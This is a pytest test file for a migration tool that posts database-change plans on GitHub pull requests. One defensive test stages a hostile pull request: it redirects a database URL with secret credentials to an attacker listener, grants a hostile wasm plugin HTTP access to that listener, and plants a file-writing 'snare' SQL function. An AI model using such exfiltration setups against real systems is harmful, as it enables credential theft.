"""Pull requests show their plans where reviewers are, and decide nothing about what the plans are made with."""

import hashlib
import socket
import threading
import time

import pytest
from support.canary import Canary, traces
from support.git_host import GitHub, pull_request, push
from support.product import guest_file
from support.waiting import eventually

NUMBER = 7
PLAN = "whimbrel/plan/dev"
MARKER = "[whimbrel]: # (whimbrel/shop)"


@pytest.fixture
def github():
    """A Git host's API."""
    github = GitHub()
    yield github
    github.stop()


@pytest.fixture
def follows(hosted, github):
    """Starts servers that plan pull requests against `dev`, and waits until what they applied is shown."""
    def start(**pull_requests):
        asked = {"environments": ["dev"]} | pull_requests
        server = hosted.serve(report=hosted.report(github, pullRequests=asked))
        commit = server.environment()["revision"]
        eventually(lambda: github.state(commit, "whimbrel/dev"), "what was applied is shown")
        return server
    return start


class Proposal:
    """A pull request: a branch of the clone, and the ref that a Git host makes of it."""

    def __init__(self, hosted, number=NUMBER):
        self.hosted = hosted
        self.number = number
        hosted.project.git("checkout", "--quiet", "-B", f"change-{number}", "main")

    def push(self, message="Propose"):
        """Commits what was changed and pushes it as the host has it; gives the commit."""
        project = self.hosted.project
        commit = project.commit(message, author="Eve <eve@example.com>")
        project.git("push", "--quiet", "--force", str(self.hosted.served.folder), f"HEAD:refs/pull/{self.number}/head")
        return commit

    def tell(self, server, action, commit, status=202, **more):
        """The host tells of it."""
        return pull_request(action, self.number, commit, self.hosted.secret, **more).send(server, status=status)


@pytest.fixture
def proposal(hosted):
    """A pull request without changes yet."""
    return Proposal(hosted)


def shown(github, commit, state="success", context=PLAN, within=30):
    """Waits for a status; gives what it says."""
    def is_shown():
        said = github.state(commit, context)
        return said if said and said[0] == state else None
    try:
        return eventually(is_shown, f"{context} is {state}", within)[1]
    except AssertionError as error:
        raise AssertionError(f"{error}; the host has {github.said()}") from None


def test_a_secret_of_the_server_that_a_plan_holds_is_not_shown(hosted, github, follows, proposal):
    pasted = Canary.hatch("a secret that somebody pasted into a migration", plain=True, loose=True)
    hosted.keep("new", pasted.value)
    server = follows()
    hosted.project.migration("0002-pets", f"CREATE TABLE pets (id bigint, word text DEFAULT '{pasted.value}')")
    commit = proposal.push()
    proposal.tell(server, "opened", commit)
    assert shown(github, commit) == "1 change planned"
    [comment] = eventually(lambda: github.ours(NUMBER), "it comments")
    assert "word text DEFAULT '[redacted]'" in comment
    assert pasted.value not in github.said()
    hosted.end(server, github.token, pasted)


def test_the_plan_is_shown_in_one_comment_that_is_kept_up_to_date(hosted, github, follows, proposal, sqlite):
    server = follows()
    # Somebody else's comment with our marker stays theirs.
    stranger = github.comment(NUMBER, f"{MARKER}\n\nall is well", "eve")
    hosted.project.table("0002-pets")
    first = proposal.push()
    proposal.tell(server, "opened", first)
    assert shown(github, first) == "1 change planned"
    assert github.states(first, PLAN) == ["pending", "success"]
    [comment] = eventually(lambda: github.ours(NUMBER), "it comments")
    assert comment.splitlines()[0] == MARKER
    assert "Whimbrel plan for `dev`" in comment and "CREATE TABLE pets" in comment and first[:7] in comment
    assert "branch" not in comment.split("| database |")[0], "it isn't on the branch yet, as everybody knows"

    hosted.project.table("0003-toys")
    second = proposal.push("More")
    proposal.tell(server, "synchronize", second)
    assert shown(github, second) == "2 changes planned"
    [comment] = eventually(lambda: [text for text in github.ours(NUMBER) if "CREATE TABLE toys" in text], "it is kept")
    assert "CREATE TABLE pets" in comment and len(github.ours(NUMBER)) == 1
    assert stranger["body"].endswith("all is well")
    assert sqlite.tables() == {"people"}

    # It is merged: what became of it is shown where it is.
    writes = github.writes
    hosted.project.git("checkout", "--quiet", "main")
    hosted.project.git("merge", "--quiet", "--ff-only", second)
    hosted.served.push()
    assert proposal.tell(server, "closed", second, status=200).json()["result"] == "ignored"
    push(second, hosted.secret).send(server, status=202)
    assert shown(github, second, context="whimbrel/dev") == "applied"
    hosted.wait_for(sqlite, "people", "pets", "toys")
    assert github.writes == writes
    hosted.end(server, github.token)


def test_a_failed_run_is_shown(hosted, github, follows):
    server = follows()
    hosted.project.migration("0002-pets", "CREATE TABLE pets AS SELECT * FROM nowhere")
    commit = hosted.publish()
    push(commit, hosted.secret).send(server, status=202)
    said = shown(github, commit, "failure", "whimbrel/dev")
    assert "failed" in said and "nowhere" not in github.said()
    hosted.end(server, github.token)


def test_wrong_definitions_are_shown_with_their_place(hosted, github, follows, proposal):
    server = follows()
    hosted.project.write("migrations/0002-pets.yaml", "kind: Migration\nnonsense: ```true\n")
    commit = proposal.push()
    proposal.tell(server, "opened", commit)
    assert shown(github, commit, "failure") == "its migrations are wrong"
    [comment] = eventually(lambda: github.ours(NUMBER), "it comments")
    assert "migrations/0002-pets.yaml:2" in comment
    hosted.end(server, github.token)


def test_what_a_policy_forbids_is_a_failure(hosted, github, follows, sqlite):
    hosted.project.environment("dev", {"shop": f"sqlite:{sqlite.file}"}, branch="main",
                               policy={"destructive": "Forbid"})
    hosted.publish()
    server = follows()
    proposal = Proposal(hosted)
    hosted.project.migration("0002-no-people", ("DROP TABLE people", "CREATE TABLE people (id bigint)"))
    commit = proposal.push()
    proposal.tell(server, "opened", commit)
    assert "`destructive`" in shown(github, commit, "failure")
    hosted.end(server, github.token)


class Trap:
    """A port of an attacker that notes who comes."""

    def __init__(self):
        self.visits = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                visitor, _ = self.socket.accept()
            except OSError:
                return
            self.visits += 1
            visitor.close()

    def close(self):
        """Ends it."""
        self.socket.close()


@pytest.fixture
def trap():
    """An attacker's port."""
    trap = Trap()
    # It does notice.
    socket.create_connection(("127.0.0.1", trap.port)).close()
    eventually(lambda: trap.visits == 1, "the trap works")
    trap.visits = 0
    yield trap
    trap.close()


class Snare:
    """A function of a database that leaves a file behind wherever it is called: also read-only, and when it is rolled back."""

    def __init__(self, postgres):
        self.files = f"{postgres.name}-came-by-"
        self.postgres = postgres
        postgres.execute(f"""CREATE FUNCTION snare(way text) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN
            EXECUTE format('COPY (SELECT 1) TO %L', '{postgres.cluster.folder}/{self.files}' || way); RETURN 0; END $$""")

    def call(self, way):
        """SQL that falls into it."""
        return f"snare('{way}')"

    def caught(self):
        """By which ways somebody fell into it."""
        return {file.name.removeprefix(self.files) for file in self.postgres.cluster.folder.glob(f"{self.files}*")}


@pytest.fixture
def snare(postgres):
    """An attacker's function."""
    snare = Snare(postgres)
    # It does notice.
    postgres.execute(f"BEGIN READ ONLY; SELECT {snare.call('test')}; ROLLBACK")
    assert snare.caught() == {"test"}
    return snare


def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, postgres, trap, snare):
    """It edits everything that it must not decide, and adds a migration that would use all of it."""
    project = hosted.project
    secret = Canary.hatch("a secret of the environment")
    hosted.outside.variables["SHOP_SECRET"] = secret.value
    project.environment("dev", {
        "shop": f"sqlite:{sqlite.file}", "control": postgres.url,
        "tenants": {"forEach": {"query": "SELECT 'one' AS name", "of": "control"},
                    "url": f"sqlite:{sqlite.file.parent}/${{name}}.db"},
    }, branch="main")
    hosted.publish()
    server = follows()

    proposal = Proposal(hosted)
    evil = f"postgres://eve@127.0.0.1:{trap.port}/loot"
    project.environment("dev", {
        "shop": {"url": evil, "username": "secret://env/SHOP_SECRET", "password": "secret://env/SHOP_SECRET"},
        "control": postgres.url,
        "tenants": {"forEach": {"query": f"SELECT {snare.call('query')}::text AS name", "of": "control"},
                    "url": evil.replace("loot", "${name}")},
    }, policy={"apply": "Auto", "destructive": "Allow"}, branch="main")
    guest = project.folder / "plugins/backfill.wasm"
    guest.parent.mkdir()
    guest.write_bytes(guest_file("hostile").read_bytes())
    digest = f"sha256:{hashlib.sha256(guest.read_bytes()).hexdigest()}"
    project.declare(controlRef="change-7", migrations="migrations", plugins={"backfill": {
        "path": "plugins/backfill.wasm", "digest": digest,
        "grants": {"http": [{"to": f"http://127.0.0.1:{trap.port}/*"}], "environment": ["SHOP_SECRET"], "clock": True},
    }, "evil": {"path": "plugins/backfill.wasm", "digest": digest}})
    project.migration("0002-steal", f"SELECT {snare.call('statement')}", {
        "uses": "backfill",
        "with": {"table": "pg_class", "key": "oid", "set": f"x = {snare.call('set')}",
                 "where": f"{snare.call('where')} IS NULL"},
    }, database="control", checks={
        when: [{"name": f"leak-{when}", "query": f"SELECT {snare.call(when)}", "equals": 0}] for when in ("before", "after")
    })
    # The branch of its name is in the repository as well.
    commit = proposal.push()
    project.git("push", "--quiet", "--force", str(hosted.served.folder), "HEAD:refs/heads/change-7")
    proposal.tell(server, "opened", commit)
    eventually(lambda: "pending" in github.states(commit, PLAN) and len(github.states(commit, PLAN)) > 1, "it is planned")
    [comment] = eventually(lambda: github.ours(NUMBER), "it comments")
    assert snare.caught() == {"test"}
    # Base's databases, base's query, the plugin of the binary.
    assert "| `shop` | sqlite |" in comment and "| `tenants[one]` |" in comment and "uses `backfill`" in comment
    assert "| `control` | postgres" in comment
    assert trap.visits == 0
    said = github.said()
    for canary, form, trace in traces([secret, github.token]):
        assert trace not in said.encode(), f"{canary} as {form}"
    for word in ("plugins/", digest, str(sqlite.file.parent)):
        assert word not in said, word

    # A plugin that only the pull request knows is no plugin.
    project.migration("0003-more", {"uses": "evil", "with": {}})
    commit = proposal.push("More")
    proposal.tell(server, "synchronize", commit)
    assert shown(github, commit, "failure") == "its migrations are wrong"
    eventually(lambda: "there is no plugin `evil`" in github.ours(NUMBER)[0], "it says so")
    assert trap.visits == 0 and sqlite.tables() == {"people"}
    assert snare.caught() == {"test"}
    assert server.environment()["phase"] == "current"
    hosted.end(server, secret, github.token)


def test_a_project_that_only_the_pull_request_has_counts_for_nothing(hosted, github, follows, proposal):
    server = follows()
    # Towards another branch than the one that drives the environment: it would never be applied there.
    hosted.project.table("0002-pets")
    commit = proposal.push()
    proposal.tell(server, "opened", commit, base="release")
    time.sleep(3)
    assert github.states(commit, PLAN) == [] and github.ours(NUMBER) == []
    hosted.end(server, github.token)


def test_forks_are_planned_only_where_that_is_allowed(hosted, github, follows, proposal):
    server = follows()
    hosted.project.table("0002-pets")
    commit = proposal.push()
    fetches = hosted.settled()
    assert proposal.tell(server, "opened", commit, 200, source="eve/shop").json()["result"] == "ignored"
    # Its repository was deleted meanwhile.
    proposal.tell(server, "opened", commit, 200, source=None)
    time.sleep(2)
    assert hosted.fetches() == fetches and github.states(commit, PLAN) == [] and github.ours(NUMBER) == []
    hosted.end(server, github.token)

    server = follows(allowForks=True)
    proposal.tell(server, "opened", commit, source="eve/shop")
    shown(github, commit)
    hosted.end(server, github.token)


def test_the_newest_commit_wins(hosted, github, follows, proposal):
    server = follows()
    hosted.project.table("0002-pets")
    old = proposal.push()
    hosted.project.table("0003-toys")
    hosted.project.git("commit", "--quiet", "--amend", "--message", "Other")
    new = proposal.push("Other")
    # What was told first isn't there any more, and what comes late is older.
    proposal.tell(server, "opened", old)
    proposal.tell(server, "synchronize", new)
    shown(github, new)
    proposal.tell(server, "synchronize", old)
    time.sleep(3)
    assert github.states(old, PLAN) == []
    [comment] = github.ours(NUMBER)
    assert "CREATE TABLE toys" in comment
    hosted.end(server, github.token)


def test_a_revoked_token_stops_no_sync(hosted, github, follows, proposal, sqlite):
    server = follows()
    hosted.keep("hub", "a-token-that-was-revoked\n")
    hosted.project.table("0002-pets")
    commit = proposal.push()
    proposal.tell(server, "opened", commit)
    eventually(lambda: github.refused > 0, "the host refuses it")
    hosted.project.git("checkout", "--quiet", "main")
    hosted.project.table("0003-toys")
    merged = hosted.publish()
    push(merged, hosted.secret).send(server, status=202)
    hosted.wait_for(sqlite, "people", "toys")
    server.phase("current")
    time.sleep(1)
    assert github.state(merged, "whimbrel/dev") is None and github.states(commit, PLAN) == []
    assert server.get("/healthz").json()["status"] == "alive"
    # With another token it goes on without a restart.
    hosted.keep("hub", github.token.value)
    proposal.tell(server, "reopened", commit)
    # What was merged meanwhile is no fault of the change.
    assert shown(github, commit).startswith("1 change planned; more was applied meanwhile")
    ended = hosted.end(server, github.token)
    assert ended.err.count("isn't shown") >= 2 and "isn't shown" in ended.err and "a-token-that-was-revoked" not in ended.said


def test_a_limit_of_the_host_is_waited_for(hosted, github, follows, proposal):
    server = follows()
    # Longer than whatever fails is waited for by itself; who comes before fails the test.
    github.limit = 4
    hosted.project.table("0002-pets")
    commit = proposal.push()
    proposal.tell(server, "opened", commit)
    shown(github, commit)
    assert github.refused == 1 and github.wrong == []
    assert len(eventually(lambda: github.ours(NUMBER), "it comments")) == 1
    hosted.end(server, github.token)
